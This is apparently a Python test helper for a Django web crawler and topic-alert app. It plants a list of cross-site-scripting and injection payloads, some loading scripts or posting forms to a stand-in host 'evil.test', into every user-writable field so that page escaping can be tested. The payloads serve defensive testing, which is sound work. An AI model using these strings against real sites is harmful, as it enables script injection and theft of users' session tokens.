"""Addresses of every page, and rows full of hostile text to show on them."""

from collections.abc import Iterator
from datetime import timedelta
from typing import Any
from urllib.parse import urlencode

from django.contrib import admin
from django.db.models import Model
from django.test import Client
from django.urls import URLPattern, get_resolver, reverse

from crawler.models import Concept, Harvest, Label, Ontology, Run, Site
from crawler.models.web import pack_text
from crawler.revisit.sources import SourceState
from crawler.sources import registry
from tests.topics.delivery.issues import digest_of
from tests.topics.delivery.rules_and_channels import channel_of, rule_of
from tests.topics.factories import Scene
from topics.feeds.newspaper import publish_newspaper
from topics.models import (
    Alert,
    AlertRule,
    AttachedConcept,
    Channel,
    DigestIssue,
    ExamplePage,
    Newspaper,
    PageChange,
    Reading,
    ReadingTag,
    SavedSearch,
    SiteControl,
    Thumb,
    TopicTerm,
)

#: Markup that opens a dialog or loads from another host if a page does not escape it.
PAYLOADS = (
    "<script>alert(1)</script>",
    '"><script src=//evil.test/x.js></script>',
    "<img src=x onerror=alert(1)>",
    '"><img src=//evil.test/x.png>',
    "' onmouseover='alert(1)' autofocus onfocus='alert(1)' x='",
    '" style="background:url(//evil.test/x)" x="',
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<iframe src=//evil.test></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css';</style>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<form action=//evil.test><input name=csrfmiddlewaretoken>",
    "<object data=//evil.test></object>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{ constructor.constructor('alert(1)')() }}",
    "{% debug %}${alert(1)}#{alert(1)}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<b>gnp.exe</b>\u2066",
    "<x hx-get=//evil.test hx-trigger=load>",
    "<div data-live=//evil.test data-every=1>",
    "--><img src=x onerror=alert(1)><!--",
    "＜script＞alert(1)＜/script＞",
)

OUR_APPS = ("crawler", "topics")
#: The table whose newest row an address shows, by the beginning of the address's name.
ROWS: dict[str, type[Model]] = {
    "run_": Run,
    "page_": Harvest,
    "digest_issue": DigestIssue,
    "rule_": AlertRule,
    "channel_": Channel,
    "ontology_": Ontology,
    "change_saved_search": SavedSearch,
    "feed_change": SavedSearch,
    "change_": PageChange,
    "site_": Site,
    "topic_example_": ExamplePage,
    "topic_concept": Concept,
    "concept_preview": AttachedConcept,
}
#: Addresses of rows that answer a form only.
WITHOUT_PAGE = {
    "delivery_change",
    "invitation_cancel",
    "sign_in_end",
    "token_revoke",
    "topic_reader_remove",
}
#: Addresses with a secret or a source that does not exist: the page says that there is nothing.
WITHOUT_ROW = {
    "plugin_settings",
    "source_pages",
    *(
        "confirm_channel",
        "stop_channel",
        "unsubscribe",
        "confirm_address",
        "join",
        "mail_link",
    ),
}


def plant(scene: Scene) -> None:
    """Put the payloads into everything that a stranger or another user may write."""
    topic, now, owner = scene.topic, scene.now, scene.topic.owner
    keys: dict[str, Any] = {"user": owner, "topic": topic}
    page = None
    # Three in a title, so that there are few rows.
    for number in range(0, len(PAYLOADS), 3):
        payload, rest = PAYLOADS[number], " ".join(PAYLOADS[number : number + 3])
        # Half of them are known pages, which stand below the news.
        more: dict[str, Any] = {"baseline": number % 2 == 0}
        text = f"{rest}\n{rest} CPU cache"
        page = scene.page(f"https://evil{number}.test/?q={rest}", rest, text=text, **more)
        page.explanation["judge"]["matched"] = [{"term": payload, "share": 0.5, "via": payload}]
        page.save()
    assert page is not None
    row = Reading.objects.create(url=page.url, note=PAYLOADS[23], changed=now, starred=now, **keys)
    ReadingTag.objects.bulk_create(
        ReadingTag(reading=row, name=payload[:40]) for payload in PAYLOADS[:8]
    )
    Thumb.objects.create(url=page.url, value=1, created=now, **keys)
    SiteControl.objects.create(topic=topic, site=page.url.site, rule=SiteControl.Rule.RAISE)
    TopicTerm.objects.bulk_create(
        TopicTerm(topic=topic, text=payload[:60], weight=0.5) for payload in PAYLOADS[:6]
    )
    ExamplePage.objects.create(topic=topic, text=PAYLOADS[0], good=True, created=now)
    SavedSearch.objects.create(owner=owner, name=PAYLOADS[1], query=PAYLOADS[4], created=now)
    known = registry.load_sources(scene.crawl)
    state = SourceState(now, registry.RATES[registry.SEARCHES], failing_since=now, failures=3)
    registry.save_sources(
        scene.crawl, known | {PAYLOADS[2]: registry.KnownSource(registry.SEARCHES, state)}
    )
    ontology = Ontology.objects.create(owner=owner, slug="evil", title=PAYLOADS[3], changed=now)
    concept = Concept.objects.create(ontology=ontology, iri="javascript:alert(1)")
    Label.objects.create(concept=concept, text=PAYLOADS[6], language="en")
    AttachedConcept.objects.create(topic=topic, concept=concept)
    Alert.objects.create(topic=topic, harvest=page, score=0.5, needed=0.4, fired=now)
    digest = digest_of(scene)
    DigestIssue.objects.create(
        digest=digest,
        local_date=now.date(),
        slot=digest.at,
        covers_from=now - timedelta(days=1),
        covers_until=now,
        state=DigestIssue.State.FAILED,
        subject=PAYLOADS[7],
        problem=PAYLOADS[0],
        message=b"From: a@example.org\r\nSubject: x\r\n\r\n" + PAYLOADS[0].encode(),
        created=now,
    )
    PageChange.objects.create(
        topic=topic,
        url=page.url,
        is_seed=True,
        found=now,
        packed_before=pack_text(PAYLOADS[0]),
        packed_after=pack_text(" ".join(PAYLOADS)),
        summary=[["inserted", PAYLOADS[1]], ["deleted", PAYLOADS[2]]],
        n_inserted=9,
        n_deleted=9,
    )
    publish_newspaper(Newspaper(topic=topic, name="paper"), now)
    rule_of(scene, channel_of(owner, name=PAYLOADS[10][:80]), name=PAYLOADS[11][:80])
    topic.name = f"Computing {PAYLOADS[0]}"
    topic.save()


def addresses(scene: Scene) -> dict[str, str]:
    """An address of every pattern of ours, and of the administration of our models.

    Raises
    ------
    KeyError
        If an address needs a value that is not known here.
    """
    found = {}
    for entry in get_resolver("topics.urls").url_patterns:
        assert isinstance(entry, URLPattern)
        if entry.name is not None:
            found[entry.name] = _address(entry, scene)
    found["search"] += "?" + urlencode({"q": f"cache {PAYLOADS[1]}"})
    return found | dict(_administration())


def _address(entry: URLPattern, scene: Scene) -> str:
    name = str(entry.name)
    known = {
        "slug": scene.topic.slug,
        "code": "gone",
        "token": "x",
        "uidb64": "x",
        "kind": "atom",
        "name": "paper" if name.startswith("newspaper") else "news.csv",
        "host": "chips.demo.test",
        "path": "",
    }
    keys = {word: known[word] for word in entry.pattern.converters if word != "pk"}
    if "pk" in entry.pattern.converters:
        keys["pk"] = str(_key(name))
    return reverse(name, kwargs=keys)


def _key(name: str) -> int:
    """The number of the row that an address is about."""
    for start, model in ROWS.items():
        if name.startswith(start):
            row = model._default_manager.order_by("-pk").first()
            assert row is not None, f"there is no {model.__name__} for {name}"
            return int(row.pk)
    if name in WITHOUT_PAGE:
        return 1
    raise KeyError(name)


def _administration() -> Iterator[tuple[str, str]]:
    yield "admin", reverse("admin:index")
    for model in admin.site._registry:
        options = model._meta
        if options.app_label not in OUR_APPS:
            continue
        base = f"admin:{options.app_label}_{options.model_name}"
        yield f"{base} list", reverse(f"{base}_changelist")
        yield f"{base} add", reverse(f"{base}_add")
        first = model._default_manager.order_by("-pk").first()
        if first is not None:
            yield f"{base} change", reverse(f"{base}_change", args=[first.pk])


def whole_pages(client: Client, found: dict[str, str]) -> dict[str, str]:
    """Those of some addresses that answer with a page, as a browser shows it.

    What is refused, or only takes forms, has one page for all of them, which says so.
    """
    pages = {}
    for name, path in found.items():
        answer = client.get(path)
        is_html = answer.headers.get("Content-Type", "").startswith("text/html")
        is_own = answer.status_code not in (403, 405)
        if is_html and b"<html" in answer.getvalue()[:3000] and is_own:
            assert answer.status_code == (404 if name in WITHOUT_ROW else 200), name
            pages[name] = path
    return pages
